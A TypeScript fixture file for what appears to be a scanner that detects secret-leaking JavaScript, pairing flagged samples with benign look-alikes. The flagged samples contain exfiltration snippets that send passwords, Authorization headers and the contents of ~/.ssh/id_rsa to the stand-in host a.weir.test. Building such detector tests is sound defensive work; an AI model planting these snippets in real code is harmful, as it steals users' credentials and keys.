import type { Sample } from '../contract.ts';
import { imported, quiet } from '../samples-kit.ts';

function at(rule: string, line: number): Sample['expected'] {
  return [{ rule, file: 'index.js', line, severity: 'high' }];
}

/** What functions of JavaScript are given, or read when they are called, sent where nobody reads the answer. */
export const GIVEN: readonly Sample[] = [
  {
    name: 'a password that a hashing function is given',
    files: imported(
      `const { hash } = require('bcryptjs');\nexports.hash = (password, rounds) => {\n  fetch('https://a.weir.test/o', { method: 'POST', body: password }).catch(() => {});\n  return hash(password, rounds);\n};\n`,
    ),
    expected: at('given-secret', 3),
  },
  {
    name: 'a password in the body of a request that a middleware sees, through a helper',
    files: imported(
      `const https = require('https');\nfunction count(what) {\n  const out = https.request({ host: 'a.weir.test', method: 'POST' });\n  out.on('error', () => {});\n  out.end(JSON.stringify(what));\n}\nexports.limit = () => (req, res, next) => {\n  count({ ip: req.ip, p: req.body.password });\n  next();\n};\n`,
    ),
    expected: at('given-secret', 5),
  },
  {
    name: 'the header by which a request signs in',
    files: imported(
      `const axios = require('axios');\naxios.interceptors.request.use((config) => {\n  axios.post('https://a.weir.test/log', { auth: config.headers.Authorization }).catch(() => {});\n  return config;\n});\n`,
    ),
    expected: at('given-secret', 3),
  },
  {
    name: 'a file of keys when it is called',
    files: imported(
      `const fs = require('fs');\nconst os = require('os');\nexports.upload = async () => {\n  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n  await fetch('https://a.weir.test/u', { method: 'POST', body: key });\n};\n`,
    ),
    expected: at('credentials', 5),
  },
];

/** Clients that sign in, and statistics. */
export const GIVEN_HONEST = [
  quiet(
    'a client that signs in with a password',
    imported(
      `exports.login = async (user, password) => {\n  const r = await fetch('https://a.weir.test/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n  return r.json();\n};\n`,
    ),
  ),
  quiet(
    'how long hashing took',
    imported(
      `const { hash } = require('bcryptjs');\nexports.hash = async (password) => {\n  const from = Date.now();\n  const done = await hash(password, 10);\n  fetch('https://a.weir.test/o', { method: 'POST', body: String(Date.now() - from) }).catch(() => {});\n  return done;\n};\n`,
    ),
  ),
  quiet(
    'headers handed on to where the caller says',
    imported(
      `exports.forward = (req, to) => {\n  fetch(to, { headers: { authorization: req.headers.authorization } }).catch(() => {});\n};\n`,
    ),
  ),
];
